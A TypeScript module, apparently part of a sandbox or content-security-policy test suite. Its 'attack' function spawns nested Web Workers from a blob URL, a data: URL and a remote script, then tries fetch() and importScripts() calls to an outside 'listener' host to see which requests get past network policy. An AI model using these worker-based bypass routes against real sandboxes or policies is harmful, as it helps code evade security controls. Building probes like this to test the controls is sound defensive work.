import { listener } from "./listener";

/** Workers within the worker, which might have a policy of their own. */
export async function attack() {
  const code = `fetch("${listener}/nested").then(() => postMessage("fetched"), () => postMessage("refused")); try { importScripts("${listener}/nested.js"); } catch {}`;
  const answers: string[] = [];
  for (const url of [
    URL.createObjectURL(new Blob([code])),
    `data:text/javascript,${encodeURIComponent(code)}`,
    `${listener}/worker.js`,
  ]) {
    try {
      const worker = new Worker(url);
      await new Promise((done) => {
        worker.onmessage = ({ data }) => done(answers.push(data));
        worker.onerror = done;
        setTimeout(done, 2_000);
      });
      worker.terminate();
    } catch {
      // Refused at once.
    }
  }
  console.log(`arrived: ${answers.filter((answer) => answer !== "refused").join()}`);
}
